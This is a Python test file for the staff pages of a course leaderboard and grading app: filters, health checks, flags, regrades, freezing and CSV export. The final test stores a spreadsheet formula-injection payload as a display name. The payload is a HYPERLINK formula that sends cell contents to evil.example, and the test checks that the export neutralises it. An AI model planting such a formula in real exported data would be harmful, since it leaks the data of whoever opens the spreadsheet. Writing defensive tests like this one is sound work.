"""Instructor pages: filters, health, flags, regrade with old and new, freeze, CSV export."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sqlmodel import Session

from grader.result import GradeResult
from leaderboard.claims import claim, record_result
from leaderboard.models import Student, Submission
from tests.leaderboard.factories import add_graded, result_data
from tests.leaderboard.helpers import Roster, add_roster, csrf_of, sign_in_staff

T0 = datetime(2026, 11, 10, 12, 0, tzinfo=UTC)


def _svc(app: Any) -> Any:
    return app.extensions["leaderboard"]


def _graded(app: Any, roster: Roster, who: str, tmp_path: Path, minutes: int, **kw: Any) -> int:
    svc = _svc(app)
    return add_graded(
        svc.settings,
        svc.spec,
        student_id=roster.ids[who],
        data=result_data(**kw),
        engine=svc.engine,
        at=T0 + timedelta(minutes=minutes),
        tmp=tmp_path,
    )


def test_submissions_filters(app: Any, roster: Roster, tmp_path: Path) -> None:
    a = _graded(app, roster, "s001", tmp_path, 1)
    b = _graded(app, roster, "s002", tmp_path, 2, status="crashed")
    c = _graded(app, roster, "s002", tmp_path, 3, status="invalid")
    client = app.test_client()
    sign_in_staff(client)

    def ids(**query: str) -> set[int]:
        html = client.get("/staff/submissions", query_string=query).get_data(as_text=True)
        return {i for i in (a, b, c) if f'/staff/submissions/{i}"' in html}

    assert ids() == {a, b, c}
    assert ids(q="s002") == {b, c}
    assert ids(q="S-1") == {a}  # display name, any case
    assert ids(status="graded") == {a}
    assert ids(status="failed") == {b}
    assert ids(status="invalid") == {c}
    assert ids(min_score="50") == {a}
    assert ids(since="2026-11-11") == set()


def test_health_shows_queue_and_workers(app: Any, client: Any, roster: Roster) -> None:
    sign_in_staff(client)
    token = csrf_of(client, "/staff/")
    assert token
    data = client.get("/staff/health.json").get_json()
    assert data["queue_length"] == 0
    assert data["workers"] == []
    assert set(data["counts"]) >= {"queued", "running", "graded", "invalid"}
    html = client.get("/staff/").get_data(as_text=True)
    assert "No worker has reported" in html


def test_flags_for_many_uploads_and_score_jumps(app: Any, roster: Roster, tmp_path: Path) -> None:
    svc = _svc(app)
    object.__setattr__(svc, "settings", replace(svc.settings, flag_upload_count=3))
    for m in range(7):
        _graded(app, roster, "s001", tmp_path, m, final=(0.6, 0.6, 0.6))
    _graded(app, roster, "s002", tmp_path, 10, final=(0.3, 0.3, 0.3))
    _graded(app, roster, "s002", tmp_path, 11, final=(0.95, 0.95, 0.95))
    _graded(app, roster, "s003", tmp_path, 12, final=(0.6, 0.6, 0.6))
    _graded(app, roster, "s003", tmp_path, 13, status="invalid")  # refunded: not counted
    add_roster(svc.settings, 2, prefix="x")  # never uploaded: not part of the median
    client = app.test_client()
    sign_in_staff(client)
    html = client.get("/staff/students", query_string={"flagged": 1}).get_data(as_text=True)
    html = html.replace("&#39;", "'")
    # Counted uploads 7, 2, 1: the class median (of those who uploaded) is 2.
    flag = "7 uploads, 3.5\u00d7 the class median of 2"  # a times sign
    assert f">{flag}<" in html
    rule = ("If we see unreasonably many uploads for one student, the network could be "
            "disqualified as over-fitted to the test data.")
    assert f'title="The course\'s rule: {rule}">{flag}<' in html  # the flag cites the rule
    assert f"The course's rule on uploads: “{rule}”" in html
    assert "score jump 30.0% → 95.0%" in html
    assert ">s003<" not in html  # not flagged, so not in the flagged list


def test_regrade_one_and_all_show_old_and_new(app: Any, roster: Roster, tmp_path: Path) -> None:
    svc = _svc(app)
    first = _graded(app, roster, "s001", tmp_path, 1, final=(0.9, 0.9, 0.9))
    _graded(app, roster, "s002", tmp_path, 2)
    client = app.test_client()
    sign_in_staff(client)
    token = csrf_of(client, "/staff/")
    response = client.post(f"/staff/submissions/{first}/regrade", data={"csrf_token": token})
    assert response.status_code == 302
    with Session(svc.engine) as session:
        sub = session.get(Submission, first)
        assert sub is not None
        assert sub.status == "queued"
        assert sub.priority == 0  # after fresh uploads
    assert first in svc.queue.pending_ids()
    # A worker (here: the crud calls a worker makes) records the new result.
    taken = claim(svc.engine, submission_id=first, worker="w", max_attempts=3)
    assert taken is not None
    assert taken.regrade
    new = GradeResult.from_dict(result_data(final=(0.5, 0.5, 0.5), layer_failures=2))
    assert record_result(svc.engine, claim=taken, result=new, spec=svc.spec, worker="w")
    html = client.get("/staff/regrades").get_data(as_text=True)
    assert "100.00" in html  # old score
    assert "50.00" in html  # new: half the layer tests fail (20), MyNet 30, finetune 0
    assert "-50.00" in html
    page = client.get(f"/staff/submissions/{first}").get_data(as_text=True)
    assert "(current)" in page
    assert "staff-only finetune" in page  # staff see the details
    # Regrade all: every finished submission goes back in the queue, but for an invalid upload,
    # whose zip was deleted.
    refused = _graded(app, roster, "s003", tmp_path, 3, status="invalid")
    client.post("/staff/regrade-all", data={"csrf_token": token, "confirm": "regrade-all"})
    assert len(svc.queue.pending_ids()) == 2
    answer = client.post(f"/staff/submissions/{refused}/regrade", data={"csrf_token": token},
                         follow_redirects=True)
    assert "was refused as invalid and its zip deleted, so it cannot be regraded" in answer.get_data(
        as_text=True)
    assert refused not in svc.queue.pending_ids()


def test_freeze_from_the_staff_page(app: Any, roster: Roster, tmp_path: Path) -> None:
    _graded(app, roster, "s001", tmp_path, 1, public=(0.9, 0.9, 0.9), final=(0.6, 0.6, 0.6))
    _graded(app, roster, "s002", tmp_path, 2, public=(0.8, 0.8, 0.8), final=(0.8, 0.8, 0.8))
    client = app.test_client()
    sign_in_staff(client)
    token = csrf_of(client, "/staff/")
    assert client.get("/api/leaderboard").get_json()["rows"][0]["display_name"] == "s-1"
    assert client.post("/staff/freeze", data={"csrf_token": token, "confirm": "freeze"}).status_code == 302
    board = client.get("/api/leaderboard").get_json()
    assert board["frozen"] is True
    assert board["scope"] == "final"
    # s-1's 60% is below the pass line: second place, but no bonus (the course's rule).
    assert [(r["display_name"], r["bonus"]) for r in board["rows"]] == [("s-2", 6), ("s-1", 0)]
    assert "Final ranking" in client.get("/").get_data(as_text=True)


def test_grades_csv(app: Any, roster: Roster, tmp_path: Path) -> None:
    _graded(app, roster, "s001", tmp_path, 1, final=(0.6, 0.6, 0.6), layer_failures=1)
    best = _graded(app, roster, "s001", tmp_path, 2, final=(0.9, 0.9, 0.9))
    _graded(app, roster, "s002", tmp_path, 3, status="crashed")
    client = app.test_client()
    sign_in_staff(client)
    token = csrf_of(client, "/staff/")
    client.post("/staff/freeze", data={"csrf_token": token, "confirm": "freeze"})
    response = client.get("/staff/export.csv")
    assert response.mimetype == "text/csv"
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.get_data(as_text=True)))}
    assert set(rows) == {"s001", "s002", "s003"}
    s1 = rows["s001"]
    assert s1["submission_id"] == str(best)
    assert (s1["numpy_nn_points"], s1["mynet_points"], s1["finetune_points"]) == ("40", "30", "30")
    assert s1["total"] == "100"
    assert s1["passed"] == "yes"
    assert s1["bonus"] == "6"
    assert s1["final_rank"] == "1"
    assert float(s1["finetune.weighted"]) == 0.9
    assert rows["s002"]["total"] == "0"
    assert rows["s002"]["passed"] == "no"
    assert rows["s003"]["submission_id"] == ""


def test_grades_csv_keeps_student_text_from_running_as_a_formula(app: Any, roster: Roster) -> None:
    """A display name like =HYPERLINK(...) reaches the instructor's spreadsheet as text."""

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Session(app.extensions["leaderboard"].engine) as session:
        student = session.get(Student, roster.ids["s001"])
        assert student is not None
        student.display_name = evil
        session.add(student)
        session.commit()
    client = app.test_client()
    sign_in_staff(client)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(
        client.get("/staff/export.csv").get_data(as_text=True)))}
    assert rows["s001"]["display_name"] == "'" + evil
    assert rows["s002"]["display_name"] == "s-2"  # ordinary text stays as it is
